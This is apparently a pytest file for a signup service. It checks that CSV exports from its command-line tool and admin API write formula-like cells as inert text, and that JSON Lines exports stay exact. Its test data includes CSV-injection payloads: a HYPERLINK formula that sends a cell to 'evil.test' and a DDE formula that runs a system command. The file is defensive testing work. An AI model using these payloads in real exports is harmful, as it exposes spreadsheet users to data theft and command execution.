"""Exports are safe to open: every cell a spreadsheet would run as a formula comes out of
`signupctl export` and the admin API's CSV export as text, and JSON Lines stay exact."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess

import httpx
import pytest
import respx

from signup_core.settings import load_settings
from tests import admin_support as a
from tests.privacy_support import privacy, signupctl
from tests.support import keyring

# Names a visitor could give (the name check lets these through), and a few addresses whose
# local part is just as hostile: each would run in a spreadsheet if written raw.
FORMULAS = [
    '=HYPERLINK("https://evil.test/?leak="&A2,"Click me")',
    "=1+1",
    "@SUM(1+1)",
    "+1",
    "-1+2",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    "   =1+1",
    " @SUM(1+1)",
    "\n-2+3",
    "\u3000=1+1",  # an ideographic space, which str.isspace() and spreadsheets both skip
]
HOSTILE_ADDRESSES = ["=1+1@example.com", "-2+3@example.com", "@sum@example.com"]
HARMLESS = ["Ada Lovelace", "O'Brien", "a-b", "1-2", "x=y", ""]

ES = a.ec_key("es-1")


def spreadsheet_would_run(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip().startswith(
        ("=", "+", "-", "@", "\t", "\r")
    )


def as_text(value: str) -> str:
    """What the export must show: the value behind one quote where it would run, else itself."""
    return f"'{value}" if spreadsheet_would_run(value) else value


async def _seed(db) -> list[tuple[str, str]]:
    """One confirmed subscription per (address, name) pair, each on its own list."""
    keys = keyring()
    pairs = [(f"n{i}@example.com", name) for i, name in enumerate(FORMULAS + HARMLESS)]
    pairs += [(address, "Ada") for address in HOSTILE_ADDRESSES]
    for i, (address, name) in enumerate(pairs):
        await privacy().seed_confirmed(
            db, count=1, email_sealed=keys.seal(address, "subscriptions.email"),
            name_sealed=keys.seal(name, "subscriptions.name") if name else None, key_id="t1",
            list_name=f"l{i:02d}",
        )  # fmt: skip
    return pairs


def _assert_safe(text: str, pairs: list[tuple[str, str]]) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(pairs)
    for row in rows:
        for cell in row.values():
            assert not spreadsheet_would_run(cell), repr(cell)
    # What was guarded is the original behind one quote; what was harmless is untouched.
    got = sorted((r["address"], r["name"]) for r in rows)
    assert got == sorted((as_text(x), as_text(n)) for x, n in pairs)
    assert all(spreadsheet_would_run(v) for v in FORMULAS + HOSTILE_ADDRESSES)
    assert not any(spreadsheet_would_run(v) for v in HARMLESS)


async def test_signupctl_export_writes_every_formula_as_text_and_jsonl_exact(db, env, tmp_path):
    pairs = await _seed(db)
    # (to a file: the text-mode pipe of subprocess would turn a CR into a newline)
    done = signupctl(env, "export", "-o", str(tmp_path / "x.csv"))
    assert done.returncode == 0, done.stderr
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as f:
        _assert_safe(f.read(), pairs)
    jsonl = signupctl(env, "export", "--format", "jsonl")
    got = sorted((r["address"], r["name"]) for r in map(json.loads, jsonl.stdout.splitlines()))
    assert got == sorted(pairs)


@pytest.fixture
async def admin(db, env):
    with respx.mock(assert_all_called=False) as mock:
        mock.get(a.JWKS_URL).mock(return_value=httpx.Response(200, json=a.jwks(ES)))
        from signup_core.clock import FixedClock

        settings = load_settings(a.admin_env(env))
        async with a.admin_client(settings, FixedClock(a.NOW)) as client:
            yield client


async def test_admin_api_csv_export_writes_every_formula_as_text(admin, db):
    pairs = await _seed(db)
    headers = a.bearer(a.sign(ES, scope="signup:export"))
    answer = await admin.get("/admin/v1/subscribers/export?format=csv", headers=headers)
    assert answer.status_code == 200, answer.text
    _assert_safe(answer.text, pairs)
    answer = await admin.get("/admin/v1/subscribers/export?format=jsonl", headers=headers)
    got = sorted((r["address"], r["name"]) for r in map(json.loads, answer.text.splitlines()))
    assert got == sorted(pairs)


@pytest.mark.spreadsheet
@pytest.mark.skipif(
    os.environ.get("SKIP_SPREADSHEET") == "1" and not os.environ.get("CI"),
    reason="SKIP_SPREADSHEET=1 (ignored when CI is set)",
)
async def test_libreoffice_opens_the_export_without_a_single_formula(db, env, tmp_path):
    """The real thing: LibreOffice Calc converts the CSV to xlsx; openpyxl finds no formula."""
    soffice = shutil.which("soffice")
    if soffice is None:
        missing = "soffice (Debian's libreoffice-calc) is missing; `make test` installs it as root"
        pytest.fail(missing) if os.environ.get("CI") else pytest.skip(missing)
    import openpyxl

    pairs = await _seed(db)
    done = signupctl(env, "export", "-o", str(tmp_path / "export.csv"))
    assert done.returncode == 0, done.stderr
    # Given a raw copy beside it, to prove the check would see a formula if one got through
    with open(tmp_path / "raw.csv", "w", newline="") as raw:
        csv.writer(raw).writerows([("address", "name"), *pairs])
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "xlsx", "--outdir", str(tmp_path), str(tmp_path / "export.csv"),
         str(tmp_path / "raw.csv")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip

    def formulas(name: str) -> list[str]:
        sheet = openpyxl.load_workbook(tmp_path / name).active
        return [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    assert formulas("raw.xlsx")  # the unguarded file does run formulas
    assert formulas("export.xlsx") == []
